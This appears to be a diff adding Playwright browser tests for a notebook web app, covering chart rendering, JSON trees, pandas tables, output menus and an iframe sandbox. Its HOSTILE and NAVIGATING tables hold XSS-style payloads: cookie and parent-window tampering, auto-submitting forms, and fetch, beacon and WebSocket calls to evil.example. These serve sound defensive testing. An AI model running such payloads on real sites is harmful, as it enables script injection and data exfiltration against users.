@@ -1,0 +1,438 @@
+"""Figures, tables, trees and menus of outputs; and that what an output runs gets nowhere."""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+from playwright.sync_api import FrameLocator, Locator, Page, Request, expect
+
+from tests.browser.stage import PageCase
+
+PLOTLY = "application/vnd.plotly.v1+json"
+VEGA_LITE = "application/vnd.vegalite.v5+json"
+BOKEH_LOAD = "application/vnd.bokehjs_load.v0+json"
+BOKEH_EXEC = "application/vnd.bokehjs_exec.v0+json"
+
+BARS = {
+    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+    "data": {"values": [{"a": "A", "b": 28}, {"a": "B", "b": 55}]},
+    "mark": "bar",
+    "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
+}
+
+REACH = (
+    "['parent', 'top'].forEach(name => { try { window[name].document.title = 'escaped'; window[name].escaped = 1 } catch {} });"
+    "try { document.cookie = 'escaped=1'; localStorage.escaped = 1 } catch {}"
+)
+"""What a hostile script tries first of all."""
+
+HOSTILE = {
+    "a script": f"<script>{REACH}</script>",
+    "a handler": f'<img src=x onerror="{REACH}">',
+    "a link to code": '<a id=go href="javascript:top.escaped=1">x</a><script>go.click()</script>',
+    "code in a picture": "<svg><script>top.escaped = 1</script><image href=x onerror='top.escaped=1'></svg>",
+    "a form that posts": "<form action=https://evil.example/take method=post target=_top><input name=a value=b></form>"
+    "<script>document.forms[0].submit()</script>",
+    "a form to this server": "<form action=/logout method=post target=_blank></form><script>document.forms[0].submit()</script>",
+    "the whole window": "<a id=go target=_top href=https://evil.example/>x</a><script>go.click()</script>",
+    "another window": "<script>open('https://evil.example/'); open('/')</script>",
+    "a frame in the frame": "<iframe src=/></iframe><iframe src=https://evil.example/></iframe><iframe srcdoc='<script>top.escaped=1</script>'>"
+    "</iframe>",
+    "requests": "<script>fetch('/rpc', {method: 'POST', body: '{}'}).catch(() => {}); fetch('https://evil.example/').catch(() => {});"
+    "navigator.sendBeacon('https://evil.example/'); new Image().src = 'https://evil.example/x';"
+    "new EventSource('https://evil.example/'); try { new WebSocket('wss://evil.example/') } catch {}</script>",
+    "loads": "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=https://evil.example/b>"
+    "<script src=https://evil.example/c.js></script><style>@import 'https://evil.example/d.css'; p { background: url(https://evil.example/e) }"
+    "</style><p>x</p><object data=https://evil.example/f></object><video src=https://evil.example/g></video>",
+    "a worker": "<script>const code = `fetch('https://evil.example/w').catch(() => {})`;"
+    "new Worker(URL.createObjectURL(new Blob([code])))</script>",
+    "messages to the page": "<script>for (const message of [null, 1, [], {}, {webipy: 'show'}, {webipy: 'set', comm: 'c', state: {a: 1}, number: 1},"
+    "{webipy: 'custom', comm: 'c', content: {}, buffers: []}, {webipy: 'size', height: Infinity}, {webipy: 'size', height: -5},"
+    "{webipy: 'want', name: '__proto__'}, {webipy: 'blocked', host: '\\\"><script>'}]) { parent.postMessage(message, '*');"
+    "top.postMessage(message, '*') }</script><p>said</p>",
+    "a huge size": "<div style='width: 1e7px; height: 1e7px'>huge</div><script>parent.postMessage({webipy: 'size', height: 1e9}, '*')</script>",
+    "a cover": "<style>html, body { position: fixed; inset: 0; background: red; z-index: 2147483647 }</style><script>1</script>"
+    "<div style='position: fixed; inset: -9999px; background: red'></div>",
+    "a dialog on top": "<dialog id=d>over</dialog><script>d.showModal(); document.documentElement.requestFullscreen().catch(() => {})</script>",
+    "peer connections": "<script>try { new RTCPeerConnection() ; top.escaped = 1 } catch {}</script>",
+    "a frame of its own making": "<script>const f = document.createElement('iframe'); document.body.append(f);"
+    "try { f.contentWindow.parent.parent.escaped = 1 } catch {}</script>",
+}
+"""Outputs that want out. Those that navigate are in `NAVIGATING`: the page's own policy stops them, and says so."""
+
+NAVIGATING = {
+    "an address": "<script>location = 'https://evil.example/'</script>",
+    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><script>1</script>",
+    "a link": "<a id=go href=https://evil.example/>x</a><script>go.click()</script>",
+    "a download": "<a id=go href=https://evil.example/x download>x</a><script>go.click()</script>",
+}
+
+
+def shown(bundle: dict[str, Any], metadata: dict[str, Any] | None = None) -> str:
+    """Code that displays a MIME bundle."""
+    return f"import json\ndisplay(json.loads({json.dumps(bundle)!r}), raw=True, metadata={metadata or {}!r})\n"
+
+
+class RichCase(PageCase):
+    """A test with one session."""
+
+    def run_cells(self, *codes: str) -> tuple[str, Page]:
+        """A session with these cells, run before any page is open; and a page on it."""
+        session, after = self.new_session(), None
+        for code in codes:
+            after = self.add_cell(session, code, after=after)
+            self.execute(session, code, after)
+        return session, self.open(session)
+
+    def show(self, code: str) -> Locator:
+        """The cell that has run that code."""
+        _, page = self.run_cells(code)
+        return page.locator(".cell").first
+
+    def frame(self, cell: Locator, at: int = 0) -> FrameLocator:
+        """A sealed frame of a cell."""
+        return cell.frame_locator("iframe.sealed").nth(at)
+
+
+class Figures(RichCase):
+    """What plotting libraries display."""
+
+    def test_plotly_figures_are_drawn(self) -> None:
+        """A plotly figure is drawn in a sealed frame, which takes its height."""
+        figure = {"data": [{"type": "scatter", "x": [1, 2], "y": [3, 1]}], "layout": {"height": 230}}
+        cell = self.show(shown({PLOTLY: figure, "text/plain": "Figure()"}))
+        expect(self.frame(cell).locator(".scatterlayer .trace")).to_have_count(1)
+        expect(cell.locator("iframe.sealed")).to_have_attribute("style", re.compile(r"height: 23\dpx"))
+
+    def test_plotly_figures_in_space_are_drawn(self) -> None:
+        """Charts that the small bundle has not are drawn by the large one."""
+        figure = {"data": [{"type": "sunburst", "labels": ["a", "b"], "parents": ["", "a"]}], "layout": {}}
+        cell = self.show(shown({PLOTLY: figure}))
+        expect(self.frame(cell).locator(".sunburstlayer .slice")).to_have_count(2)
+
+    def test_vega_lite_charts_are_drawn(self) -> None:
+        """A chart of Vega-Lite 5 or 6 is drawn; its data may be in it."""
+        cell = self.show(shown({VEGA_LITE: BARS}) + shown({VEGA_LITE.replace("v5", "v6"): BARS}))
+        for at in range(2):
+            expect(self.frame(cell, at).locator(".mark-rect path")).to_have_count(2)
+
+    def test_vega_charts_are_drawn(self) -> None:
+        """A chart of Vega itself, too."""
+        spec = {
+            "width": 50,
+            "height": 50,
+            "marks": [{"type": "rect", "encode": {"enter": {"width": {"value": 9}, "height": {"value": 9}}}}],
+        }
+        cell = self.show(shown({"application/vnd.vega.v5+json": spec}))
+        expect(self.frame(cell).locator(".mark-rect path")).to_have_count(1)
+
+    def test_html_of_plotting_libraries_uses_our_copies(self) -> None:
+        """HTML that would load Vega or plotly from a public server gets ours: nothing goes out."""
+        address = "https://cdn.jsdelivr.net/npm"
+        altair = (
+            "<div id=vis></div><script>const add = (name) => new Promise((done, fail) => { const s = document.createElement('script');"
+            f"s.onload = done; s.onerror = fail; s.src = '{address}/' + name; document.head.append(s) }});"
+            "add('vega@6?noext').then(() => add('vega-lite@6.1.0?noext')).then(() => add('vega-embed@7?noext'))"
+            f".then(() => vegaEmbed('#vis', {json.dumps(BARS)}, {{renderer: 'svg'}}))</script>"
+        )
+        plotly = (
+            "<script src='https://cdn.plot.ly/plotly-3.0.1.min.js'></script><div id=p></div>"
+            "<script>Plotly.newPlot('p', [{y: [1, 2, 3]}])</script>"
+        )
+        cell = self.show(shown({"text/html": altair}) + shown({"text/html": plotly}))
+        expect(self.frame(cell, 0).locator(".mark-rect path")).to_have_count(2)
+        expect(self.frame(cell, 1).locator(".scatterlayer .trace")).to_have_count(1)
+        expect(cell.locator(".wanted")).to_have_count(0)
+
+    def test_bokeh_gets_its_parts_together(self) -> None:
+        """Bokeh's loader, the element and the script are outputs of their own; the frame of the figure has all of them."""
+        load = "window.Bokeh = { embed: id => { document.getElementById(id).textContent = 'drawn' } }"
+        script = '(root => { const items = [{"docid": "d", "roots": {"p1001": "ab-12"}}]; root.Bokeh.embed("ab-12") })(window)'
+        _, page = self.run_cells(
+            shown({"application/javascript": load, BOKEH_LOAD: ""}),
+            shown({"text/html": '<div id="ab-12" data-root-id="p1001"></div>'})
+            + shown({"application/javascript": script, BOKEH_EXEC: ""}, {BOKEH_EXEC: {"id": "p1001"}}),
+        )
+        expect(self.frame(page.locator(".cell").nth(1)).locator("#ab-12")).to_have_text("drawn")
+
+    def test_an_updated_figure_is_drawn_anew(self) -> None:
+        """`update_display` of a figure shows the new one."""
+        session, page = self.run_cells(
+            "h = display({'text/html': '<b>one</b><script>1</script>'}, raw=True, display_id='f')"
+        )
+        cell = page.locator(".cell").first
+        expect(self.frame(cell).locator("b")).to_have_text("one")
+        self.execute(session, "h.update({'text/html': '<b>two</b><script>1</script>'}, raw=True)")
+        expect(self.frame(cell).locator("b")).to_have_text("two")
+
+    def test_the_theme_reaches_figures(self) -> None:
+        """In the dark theme a figure without a template stands on the page's ground."""
+        session = self.new_session()
+        cell = self.add_cell(session, "x")
+        self.execute(session, shown({PLOTLY: {"data": [{"y": [1, 2]}], "layout": {"height": 200}}}), cell)
+        context = self.new_context(color_scheme="dark")
+        page = self.open(session, context)
+        ground = self.frame(page.locator(".cell").first).locator(".main-svg").first
+        expect(ground).to_have_attribute("style", re.compile(r"background: rgba\(0, 0, 0, 0\)"))
+
+
+class Network(RichCase):
+    """What outputs load from elsewhere."""
+
+    CODE = "<p id=p>before</p><script src=https://cdn.example.org/lib.js></script>"
+
+    def test_a_person_can_let_an_output_load_from_a_server(self) -> None:
+        """An output that needs a script from elsewhere says from where; once allowed, it loads it, and others that ask for the same do."""
+        session = self.new_session()
+        for code in (self.CODE, self.CODE.replace("lib", "other")):
+            self.execute(session, shown({"text/html": code}), self.add_cell(session, "x"))
+        asked: list[str] = []
+
+        def answer(route: Any) -> None:
+            asked.append(route.request.url)
+            route.fulfill(content_type="text/javascript", body="document.getElementById('p').textContent = 'loaded'")
+
+        self.context.route("https://cdn.example.org/**", answer)
+        page = self.open(session)
+        first, second = page.locator(".cell").nth(0), page.locator(".cell").nth(1)
+        expect(first.locator(".wanted")).to_contain_text("This output wants to load from cdn.example.org.")
+        expect(self.frame(first).locator("#p")).to_have_text("before")
+        self.assertEqual(asked, [])
+        first.get_by_role("button", name="Allow").click()
+        expect(self.frame(first).locator("#p")).to_have_text("loaded")
+        expect(self.frame(second).locator("#p")).to_have_text("loaded")
+        expect(page.locator(".wanted")).to_have_count(0)
+        page.reload()
+        expect(self.frame(second).locator("#p")).to_have_text("loaded")
+        second.locator(".output").hover()
+        second.get_by_role("button", name="Forbid it").click()
+        expect(self.frame(second).locator("#p")).to_have_text("before")
+        expect(second.locator(".wanted")).to_be_visible()
+
+    def test_what_is_allowed_is_that_server_alone(self) -> None:
+        """Another server stays out of reach."""
+        session = self.new_session()
+        code = self.CODE + "<script>fetch('https://other.example.org/').catch(() => {})</script>"
+        self.execute(session, shown({"text/html": code}), self.add_cell(session, "x"))
+        self.context.route(
+            "https://cdn.example.org/**", lambda route: route.fulfill(body="1", content_type="text/javascript")
+        )
+        asked: list[str] = []
+        self.context.on("request", lambda request: asked.append(request.url))
+        page = self.open(session)
+        page.evaluate("localStorage.setItem('webipy.hosts', JSON.stringify(['cdn.example.org']))")
+        page.reload()
+        expect(page.locator(".wanted")).to_contain_text("This output wants to load from other.example.org.")
+        self.assertEqual([url for url in asked if "other.example" in url], [])
+
+
+class Trees(RichCase):
+    """JSON."""
+
+    VALUE: dict[str, Any] = {"name": "webipy", "list": list(range(1000)), "deep": {"a": [{"needle": "x", "b": None}]}}
+
+    def tree(self) -> Locator:
+        """The tree of that value."""
+        return self.show(f"from IPython.display import JSON\nJSON({self.VALUE!r})").locator(".json-tree")
+
+    def test_branches_open_and_close_and_come_in_parts(self) -> None:
+        """A branch shows its items when it is opened, a hundred at a time."""
+        tree = self.tree()
+        expect(tree.locator(".json-leaf")).to_have_text([re.compile("name: .webipy.")])
+        tree.get_by_text("list").click()
+        expect(tree.locator(".json-leaf")).to_have_count(101)
+        tree.get_by_role("button", name="Show 900 more items").click()
+        expect(tree.locator(".json-leaf")).to_have_count(201)
+        tree.get_by_text("list").click()
+        expect(tree.locator(".json-leaf")).to_have_count(1)
+
+    def test_a_search_opens_what_it_finds(self) -> None:
+        """Keys and values are found wherever they are; Enter goes on to the next."""
+        tree = self.tree()
+        field = tree.get_by_role("searchbox")
+        field.fill("needle")
+        expect(tree.locator(".json-hit")).to_have_text(re.compile('needle: "x"'))
+        field.fill("77")
+        expect(tree.get_by_role("status")).to_have_text("1 of 19")
+        expect(tree.locator(".json-hit")).to_have_text(re.compile("77: 77"))
+        for _ in range(3):
+            field.press("Enter")
+        expect(tree.locator(".json-hit")).to_have_text(re.compile("377: 377"))
+
+    def test_the_path_of_a_value_can_be_copied(self) -> None:
+        """As a subscript, which Python and JavaScript read alike."""
+        tree = self.tree()
+        tree.get_by_role("searchbox").fill("needle")
+        tree.locator(".json-hit").get_by_role("button", name="Copy path").click()
+        self.assertEqual(tree.page.evaluate("navigator.clipboard.readText()"), '["deep"]["a"][0]["needle"]')
+
+
+class Tables(RichCase):
+    """Tables of pandas."""
+
+    CODE = (
+        "import pandas as pd\npd.DataFrame({'city': ['Rome', 'Bern', 'Oslo'], 'people': [2_748_109, 134_794, 709_037]})"
+    )
+
+    def test_a_click_on_a_column_sorts_by_it(self) -> None:
+        """Numbers as numbers, up, down, and back to how it came."""
+        cell = self.show(self.CODE)
+        cities = cell.locator("tbody td:nth-child(2)")
+        expect(cities).to_have_text(["Rome", "Bern", "Oslo"])
+        people = cell.get_by_role("button", name="people")
+        for order in (["Bern", "Oslo", "Rome"], ["Rome", "Oslo", "Bern"], ["Rome", "Bern", "Oslo"]):
+            people.click()
+            expect(cities).to_have_text(order)
+        cell.get_by_role("button", name="city").press("Enter")
+        expect(cell.locator("th[aria-sort=ascending]")).to_have_text("city")
+        expect(cities).to_have_text(["Bern", "Oslo", "Rome"])
+
+    def test_long_tables_keep_their_header_in_sight(self) -> None:
+        """A table with many rows scrolls in a box, under its header."""
+        cell = self.show("import pandas as pd\npd.DataFrame({'n': range(60)})")
+        box = cell.locator(".table-box")
+        box.evaluate("box => { box.scrollTop = box.scrollHeight }")
+        expect(cell.locator("tbody tr").last).to_be_visible()
+        top, head = box.bounding_box(), cell.locator("thead th").last.bounding_box()
+        assert top is not None and head is not None
+        self.assertLess(abs(top["y"] - head["y"]), 2)
+
+    def test_a_table_is_taken_out_as_csv(self) -> None:
+        """The menu copies it as CSV."""
+        cell = self.show(self.CODE)
+        cell.locator(".output").hover()
+        cell.get_by_role("button", name="Menu of output").click()
+        cell.get_by_role("menuitem", name="Copy as CSV").click()
+        expect(cell.page.get_by_text("Copied")).to_be_visible()
+        text = cell.page.evaluate("navigator.clipboard.readText()")
+        self.assertEqual(text.replace("\r", ""), ",city,people\n0,Rome,2748109\n1,Bern,134794\n2,Oslo,709037")
+
+
+class Menus(RichCase):
+    """The menu of an output."""
+
+    def saved(self, cell: Locator, item: str) -> tuple[str, bytes]:
+        """The name and content of the file that a menu item saves."""
+        button = cell.locator(".output").first.get_by_role("button", name="Menu of")
+        button.focus()
+        expect(button).to_have_css("opacity", "1")
+        button.press("Enter")
+        with cell.page.expect_download() as download:
+            cell.get_by_role("menuitem", name=item).press("Enter")
+        return download.value.suggested_filename, Path(str(download.value.path())).read_bytes()
+
+    def test_outputs_are_saved_by_keyboard(self) -> None:
+        """Every kind of output has a menu that the keyboard reaches; what is saved is what was put out."""
+        png = "import base64\ndisplay({'image/png': base64.b64encode(b'\\x89PNG..').decode()}, raw=True)"
+        table = {
+            png: ("Save as an image", "output-of-cell-1.png", b"\x89PNG.."),
+            "print('text')": ("Save as text", "output-of-cell-1.txt", b"text\n"),
+            "display({'application/json': {'a': 1}}, raw=True)": (
+                "Save as a file",
+                "output-of-cell-1.json",
+                b'{\n  "a": 1\n}',
+            ),
+            "display({'text/markdown': '# a'}, raw=True)": ("Save as a file", "output-of-cell-1.md", b"# a"),
+        }
+        for code, (item, name, content) in table.items():
+            cell = self.show(code)
+            self.assertEqual(self.saved(cell, item), (name, content))
+
+    def test_a_picture_fills_the_screen(self) -> None:
+        """A click on a picture shows it on the whole screen, another click ends that."""
+        cell = self.show(
+            "import base64, struct, zlib\n"
+            "row = b'\\0' + b'\\xff\\0\\0' * 8\n"
+            "chunk = lambda name, data: struct.pack('>I', len(data)) + name + data + struct.pack('>I', zlib.crc32(name + data))\n"
+            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>2I5B', 8, 8, 8, 2, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(row * 8))"
+            " + chunk(b'IEND', b'')\n"
+            "display({'image/png': base64.b64encode(png).decode()}, raw=True)"
+        )
+        image = cell.locator("img.image")
+        image.click()
+        expect(cell.locator(".output:fullscreen")).to_have_count(1)
+        image.click()
+        expect(cell.locator(".output:fullscreen")).to_have_count(0)
+
+
+class Escapes(RichCase):
+    """What hostile outputs come to."""
+
+    def watched(self) -> list[str]:
+        """Every request of this context that left the browser, or would have: those that a policy stopped did not."""
+        asked: list[str] = []
+
+        def heard(request: Request) -> None:
+            if request.failure != "csp":
+                asked.append(f"{request.method} {request.url}")
+
+        self.context.on("requestfinished", heard)
+        self.context.on("requestfailed", heard)
+        return asked
+
+    def outside(self, asked: list[str]) -> list[str]:
+        """Those that no page of ours makes."""
+        ours = re.compile(
+            rf"^(GET {self.server.origin}/(s/|static/|frame$)|POST {self.server.origin}/login|GET (data|blob):)"
+        )
+        return [one for one in asked if not ours.search(one)]
+
+    def check(self, page: Page, asked: list[str]) -> None:
+        """Nothing has come of it."""
+        self.assertEqual(page.evaluate("[typeof window.escaped, localStorage.escaped ?? null]"), ["undefined", None])
+        self.assertNotEqual(page.title(), "escaped")
+        self.assertEqual(len(self.context.pages), 1)
+        self.assertTrue(page.evaluate("document.elementFromPoint(20, 10).closest('.top') !== null"))
+        self.assertFalse(page.evaluate("document.cookie.includes('escaped')"))
+        self.assertEqual(self.outside(asked), [])
+        page.evaluate("fetch('/rpc/openrpc.json').then(answer => answer.ok)")
+
+    def test_nothing_of_an_output_gets_out(self) -> None:
+        """Of a table of attacks none reaches the page, the server or another site, and the page's own policy has nothing to report."""
+        asked = self.watched()
+        _, page = self.run_cells(*[shown({"text/html": html}) for html in HOSTILE.values()])
+        for at, name in enumerate(HOSTILE):
+            with self.subTest(name):
+                cell = page.locator(".cell").nth(at)
+                cell.scroll_into_view_if_needed()
+                expect(cell.locator("iframe.sealed")).to_have_attribute("style", re.compile("height"))
+                box = cell.locator("iframe.sealed").bounding_box()
+                assert box is not None
+                self.assertLessEqual(box["height"], 2000)
+        self.check(page, asked)
+
+    def test_a_frame_that_navigates_is_taken_away(self) -> None:
+        """It is stopped before anything is sent, and replaced by a sentence."""
+        self.faults_expected = re.compile("^policy: frame-src https://evil.example")  # the stop itself
+        asked = self.watched()
+        _, page = self.run_cells(*[shown({"text/html": html}) for html in NAVIGATING.values()])
+        for cell in page.locator(".cell").all():
+            cell.scroll_into_view_if_needed()
+            expect(cell.locator(".out")).to_contain_text(re.compile("tried to leave the page|^$"))
+        self.assertEqual(self.outside(asked), [])
+        self.assertEqual(len(self.context.pages), 1)
+
+    def test_a_frame_that_talks_without_end_is_stopped(self) -> None:
+        """The page stays usable under a flood of messages, and ends it."""
+        cell = self.show(
+            shown(
+                {
+                    "text/html": "<script>setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({webipy: 'ready'}, '*') }, 1)</script>"
+                }
+            )
+        )
+        expect(cell.locator(".out")).to_contain_text("sent more messages than a page can take")
+        expect(cell.locator("iframe")).to_have_count(0)
+
+    def test_a_frame_that_never_rests_does_not_hold_the_page(self) -> None:
+        """A loop without end in a frame leaves the page to answer."""
+        session, page = self.run_cells(
+            shown({"text/html": "<p>on</p><script>setTimeout(() => { for (;;); }, 200)</script>"})
+        )
+        expect(page.locator("iframe.sealed")).to_have_attribute("style", re.compile("height"))
+        other = self.add_cell(session, "1 + 1")
+        self.execute(session, "print(6 * 7)", other)
+        expect(page.locator(f"#cell-{other} .out")).to_contain_text("42")
